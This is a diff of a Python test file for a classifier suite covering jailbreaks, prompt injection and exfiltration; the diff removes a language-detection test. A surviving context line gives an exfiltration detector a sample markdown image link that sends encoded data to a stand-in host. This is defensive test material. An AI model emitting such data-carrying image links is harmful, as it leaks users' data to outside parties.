@@ -11,7 +11,6 @@ from classify.classifiers.jailbreak import classifier as jailbreak
 from classify.classifiers.prompt_injection import classifier as prompt_injection
 from classify.signals import attempt, exfiltration, mention, ngrams, role_tags
 from classify.signals.certain import certain
-from classify.signals.language import language
 from classify.signals.phrases import NAMES, matches, phrases
 from classify.signals.refusal import refusal
 from classify.signals.segment import segmented
@@ -92,23 +91,6 @@ def test_links_that_take_data_along() -> None:
     assert exfiltration.certain_slots(link)
     assert not exfiltration.slots("See ![plan](https://a.example/p.png?size=2) on the left.")
     assert exfiltration.carried(f"![x](https://a.example/p?d={'QUJD' * 20})")
-
-
-@pytest.mark.parametrize(
-    ("text", "wanted"),
-    [
-        ("Where can I see the northern lights in winter?", "English"),
-        ("Wo kann ich im Winter die Nordlichter sehen?", "German"),
-        ("Où puis-je voir les aurores boréales en hiver ?", "French"),
-        ("أين يمكنني رؤية الشفق القطبي؟", "Arabic"),
-        ("冬天在哪里可以看到北极光？", "Chinese"),
-        ("冬にオーロラはどこで見られますか？", "Japanese"),
-        ("def f(x):\n    return [y for y in x if y]", "English"),
-        ('["return policy"]', "English"),
-    ],
-)
-def test_languages(text: str, wanted: str) -> None:
-    assert language(text) == wanted
 
 
 def test_refusals() -> None:
